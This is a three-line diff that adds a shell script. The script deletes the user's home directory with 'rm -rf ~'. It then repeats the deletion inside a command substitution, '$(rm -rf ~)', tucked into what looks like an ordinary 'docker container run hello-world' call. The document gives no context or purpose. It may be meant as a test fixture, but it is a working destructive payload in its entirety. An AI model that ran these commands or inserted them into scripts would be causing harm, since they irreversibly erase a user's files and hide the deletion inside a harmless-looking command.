@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf ~
+docker container run $(rm -rf ~) hello-world
